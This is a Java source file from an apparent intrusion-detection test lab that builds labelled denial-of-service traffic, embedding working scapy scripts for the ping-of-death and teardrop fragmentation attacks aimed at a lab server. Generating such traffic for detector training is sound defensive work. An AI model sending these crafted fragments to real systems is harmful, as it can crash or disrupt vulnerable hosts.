package gatewatch.sensor.lab.scenario.attack;

import gatewatch.features.truth.FlowPattern;
import gatewatch.features.truth.Proto;
import gatewatch.features.truth.TruthCategory;
import gatewatch.sensor.lab.CommandResult;
import gatewatch.sensor.lab.LabException;
import gatewatch.sensor.lab.scenario.LabRun;
import gatewatch.sensor.lab.scenario.Scenario;
import gatewatch.sensor.lab.scenario.Tool;
import gatewatch.sensor.lab.scenario.Tools;
import java.time.Duration;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The two fragment attacks of KDD, made with scapy from the client's main address to the server:
 * <ul>
 * <li>{@link #pingOfDeath()} (dos/pod): ICMP echo requests whose fragments add up to more than
 *     65,535 bytes (the last fragment's offset plus its length passes the limit); each is about
 *     45 fragments of 1,480 bytes;</li>
 * <li>{@link #teardrop()} (dos/teardrop): UDP datagrams in two fragments where the second lies
 *     inside the first (offset 24 within a first fragment of 36 bytes), the overlap that crashed
 *     old reassembly code.</li>
 * </ul>
 * Today's kernels drop both, so the server does not answer; a few datagrams each, as the attacks
 * need.
 *
 * @param script the scapy script; argv: source, destination, count, seed; it prints {@code sent N packets M}
 */
public record DosFragments(String name, String label, Proto proto, String summary, String script, int count) implements Scenario {
    private static final Pattern SENT = Pattern.compile("sent (\\d+) packets (\\d+)");

    public static DosFragments pingOfDeath() {
        return new DosFragments("dos-pod", "pod", Proto.ICMP, "dos/pod: scapy ping of death, oversized fragmented ICMP echo requests",
                POD, 10);
    }

    public static DosFragments teardrop() {
        return new DosFragments("dos-teardrop", "teardrop", Proto.UDP, "dos/teardrop: scapy overlapping UDP fragments", TEARDROP, 20);
    }

    @Override
    public List<Tool> tools() {
        return List.of(Tools.PYTHON, Tools.SCAPY);
    }

    @Override
    public void run(LabRun lab) throws Exception {
        String src = lab.net().client();
        String dst = lab.net().server();
        lab.label(FlowPattern.of(proto, src, dst).eitherDirection(), TruthCategory.DOS, label);
        String file = lab.writeFile(name + ".py", script).toString();
        lab.pause(Duration.ofMillis(300), Duration.ofMillis(1000));
        CommandResult r = lab.client(name, Duration.ofSeconds(60), List.of(lab.path(Tools.PYTHON), file, src, dst,
                Integer.toString(count), Long.toString(lab.random().nextLong()))).requireOk();
        Matcher m = SENT.matcher(r.output());
        if (!m.find()) {
            throw new LabException(name + ": the scapy script did not say what it sent: " + CommandResult.tail(r.output()));
        }
        lab.report("datagrams_sent", Long.parseLong(m.group(1)));
        lab.report("fragments_sent", Long.parseLong(m.group(2)));
    }

    private static final String POD = """
            import random, sys
            from scapy.all import IP, ICMP, Raw, conf, send
            conf.verb = 0
            src, dst, count, seed = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
            rnd = random.Random(seed)
            frags = []
            for i in range(count):
                ident = rnd.randrange(1, 65536)
                # Echo request header and 65,600 bytes of data: beyond what one IPv4 datagram may hold.
                body = bytes(ICMP(type=8, id=rnd.randrange(1, 65536), seq=i)) + b"X" * 65600
                for off in range(0, len(body), 1480):
                    chunk = body[off:off + 1480]
                    more = "MF" if off + 1480 < len(body) else 0
                    frags.append(IP(src=src, dst=dst, id=ident, proto=1, flags=more, frag=off // 8) / Raw(chunk))
            send(frags, inter=0.001)
            print("sent", count, "packets", len(frags))
            """;

    private static final String TEARDROP = """
            import random, struct, sys
            from scapy.all import IP, Raw, conf, send
            conf.verb = 0
            src, dst, count, seed = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
            rnd = random.Random(seed)
            frags = []
            for i in range(count):
                ident = rnd.randrange(1, 65536)
                sport = rnd.randrange(1024, 65536)
                # First fragment: UDP header claiming 56 bytes plus 28 bytes of data (36 in all), more to come.
                udp = struct.pack("!HHHH", sport, 53, 56, 0) + b"A" * 28
                frags.append(IP(src=src, dst=dst, id=ident, proto=17, flags="MF", frag=0) / Raw(udp))
                # Second and last fragment at offset 24 (3 * 8), inside the first: the overlap.
                frags.append(IP(src=src, dst=dst, id=ident, proto=17, flags=0, frag=3) / Raw(b"B" * 4))
            send(frags, inter=0.01)
            print("sent", count, "packets", len(frags))
            """;
}
